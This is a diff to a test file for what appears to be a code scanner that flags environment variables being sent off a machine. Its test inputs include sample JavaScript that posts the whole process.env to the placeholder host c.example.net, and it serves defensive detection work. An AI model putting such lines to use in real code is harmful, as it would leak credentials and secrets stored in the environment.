@@ -55,6 +55,18 @@ test('one variable of the environment is not all of it', () => {
   assert.deepEqual(kinds('rows = load_settings(os.environ)\nrequests.post("https://c.example.net", json=rows)\n'), []);
 });
 
+test('what is written to a request of any name is sent, a setting called env too', () => {
+  const sent = (name: string, told: string) =>
+    kinds(
+      `const data = JSON.stringify(${told});\nconst ${name} = http.request({ hostname: 'c.example.net', method: 'POST' });\n${name}.write(data);\n`,
+      'javascript',
+      'a.js',
+    );
+  assert.deepEqual(sent('reportRequest', '{ env: process.env, at: Date.now() }'), ['environment-sent']);
+  assert.deepEqual(sent('outReq', '{ env: process.env.NODE_ENV }'), []);
+  assert.deepEqual(sent('outReq', 'spawnSync(tool, [], { env: process.env }).stdout'), []);
+});
+
 test('one character, bytes of a number, a header and a setting hide and fetch nothing', () => {
   const script = (code: string) => kinds(`${code}\nnew Function(code)();\n`, 'javascript', 'a.js');
   assert.deepEqual(script('const mark = String.fromCharCode(4);\nconst code = `return ${rule}` + mark;'), []);
